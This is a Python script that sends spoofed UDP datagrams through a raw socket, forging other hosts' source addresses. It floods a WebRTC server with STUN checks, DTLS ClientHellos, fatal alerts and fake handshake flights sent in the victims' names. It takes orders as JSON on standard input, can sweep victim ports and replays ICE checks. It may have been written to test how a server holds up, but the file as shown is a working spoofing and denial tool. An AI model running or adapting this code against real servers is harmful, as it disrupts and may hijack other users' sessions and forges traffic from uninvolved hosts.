#!/usr/bin/env python3
"""Sends datagrams in other hosts' names, by a raw socket: what a network without source address checks lets anybody do.

Told what to do by lines of JSON on standard input:

  {"do": "flood", "kind": KIND, "rate": 500, "server": [IP, PORT], "victims": [[IP, PORT], ...], "credentials": {...}}
  {"do": "victims", "victims": [[IP, PORT], ...]}
  {"do": "stop"}

KIND is one of FLOODS below. A flood sends `rate` datagrams a second in each victim's name until it is told to stop, a minute at the
most; the answer to "stop" is a line of JSON that says how many were sent. It knows addresses and its own session's ICE credentials, and
sees nothing of what the server answers.
"""

import hashlib
import hmac
import json
import os
import queue
import socket
import struct
import sys
import threading
import time
import zlib

MOST_SECONDS = 60


def udp(source, to, payload):
    """An IPv4 packet with a UDP datagram; no UDP checksum, which IPv4 allows (RFC 768)."""
    length = 28 + len(payload)
    header = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, length, 0, 0, 64, socket.IPPROTO_UDP, 0, socket.inet_aton(source[0]), socket.inet_aton(to[0])
    )
    return header + struct.pack("!HHHH", source[1], to[1], length - 20, 0) + payload


def check(credentials):
    """A STUN Binding request with MESSAGE-INTEGRITY and FINGERPRINT (RFC 8489), as a browser's with USE-CANDIDATE."""

    def attribute(kind, value):
        return struct.pack("!HH", kind, len(value)) + value + bytes(-len(value) % 4)

    user = f"{credentials['ufrag']}:x".encode()
    body = attribute(6, user) + attribute(0x24, bytes(4)) + attribute(0x25, b"") + attribute(0x802A, os.urandom(8))
    transaction = os.urandom(12)

    def head(length):
        return struct.pack("!HHI", 1, length, 0x2112A442) + transaction

    mac = hmac.new(credentials["pwd"].encode(), head(len(body) + 24) + body, hashlib.sha1).digest()
    body += attribute(8, mac)
    crc = zlib.crc32(head(len(body) + 8) + body) ^ 0x5354554E
    body += attribute(0x8028, struct.pack("!I", crc))
    return head(len(body)) + body


def record(content, body, epoch=0, sequence=0):
    return struct.pack("!BHHHIH", content, 0xFEFD, epoch, 0, sequence, len(body)) + body


def message(kind, sequence, body):
    length = struct.pack("!I", len(body))[1:]
    return record(22, bytes([kind]) + length + struct.pack("!H", sequence) + bytes(3) + length + body, sequence=sequence)


EXTENSIONS = bytes.fromhex(
    "000a00080006001d00170018"  # supported_groups
    "000b00020100"  # ec_point_formats
    "000d0006000404030503"  # signature_algorithms
    "000e0009000600080007000100"  # use_srtp
    "00170000"  # extended_master_secret
)


def hello(random):
    """A ClientHello of DTLS 1.2 that the server takes, without a cookie."""
    suites = bytes.fromhex("c02bc02ccca9")
    body = b"\xfe\xfd" + random + b"\0\0" + struct.pack("!H", len(suites)) + suites + b"\1\0"
    return message(1, 0, body + struct.pack("!H", len(EXTENSIONS)) + EXTENSIONS)


FLIGHT = [
    message(11, 1, bytes([0, 0, 6, 0, 0, 3, 1, 2, 3])),
    message(16, 2, bytes([32] * 33)),
    message(15, 3, bytes([4, 3, 0, 4, 1, 2, 3, 4])),
    record(20, b"\1", sequence=4),
    message(20, 4, bytes(12)),
]

FLOODS = {
    # Checks with credentials of the attacker's own.
    "checks": lambda n, credentials: check(credentials),
    # ClientHellos, each of another handshake.
    "hellos": lambda n, credentials: hello(os.urandom(32)),
    # One ClientHello again and again.
    "one hello": lambda n, credentials: hello(bytes(32)),
    # Fatal alerts in plaintext.
    "alerts": lambda n, credentials: record(21, bytes([2, (10, 40, 42, 0)[n % 4]]), sequence=n),
    # Parts of a client's second flight, and records that seem to be encrypted.
    "flights": lambda n, credentials: (FLIGHT + [b"".join(FLIGHT), record(22, os.urandom(40), epoch=1), b"\x2e" + os.urandom(30)])[n % 8],
}


class Flood(threading.Thread):
    def __init__(self, order):
        super().__init__(daemon=True)
        self.order = order
        self.victims = order["victims"]
        self.over = threading.Event()
        self.sent = 0

    def run(self):
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        make = FLOODS[self.order["kind"]]
        server = tuple(self.order["server"])
        begin = time.monotonic()
        pause = 1 / self.order["rate"]
        number = 0
        replayed = check(self.order["credentials"]) if self.order.get("replay") else None
        while not self.over.is_set() and time.monotonic() - begin < MOST_SECONDS:
            wait = begin + number * pause - time.monotonic()
            if wait > 0:
                time.sleep(wait)
            for victim in self.victims:
                payload = replayed or make(number, self.order["credentials"])
                raw.sendto(udp(victim, server, payload), (server[0], 0))
                self.sent += 1
            if self.order.get("sweep"):
                # The port is not known: all that a client may have been given, one after the other.
                first, last = self.order["sweep"]
                self.victims = [[ip, first + (port - first + len(self.victims)) % (last - first)] for ip, port in self.victims]
            number += 1


def main():
    orders = queue.Queue()
    threading.Thread(target=lambda: [orders.put(json.loads(line)) for line in sys.stdin] + [orders.put(None)], daemon=True).start()
    flood = None
    while (order := orders.get()) is not None:
        if order["do"] == "flood":
            flood = Flood(order)
            flood.start()
        elif order["do"] == "victims":
            if flood:
                flood.victims = order["victims"]
        elif order["do"] == "stop":
            flood.over.set()
            flood.join()
            print(json.dumps({"sent": flood.sent}), flush=True)


if __name__ == "__main__":
    main()
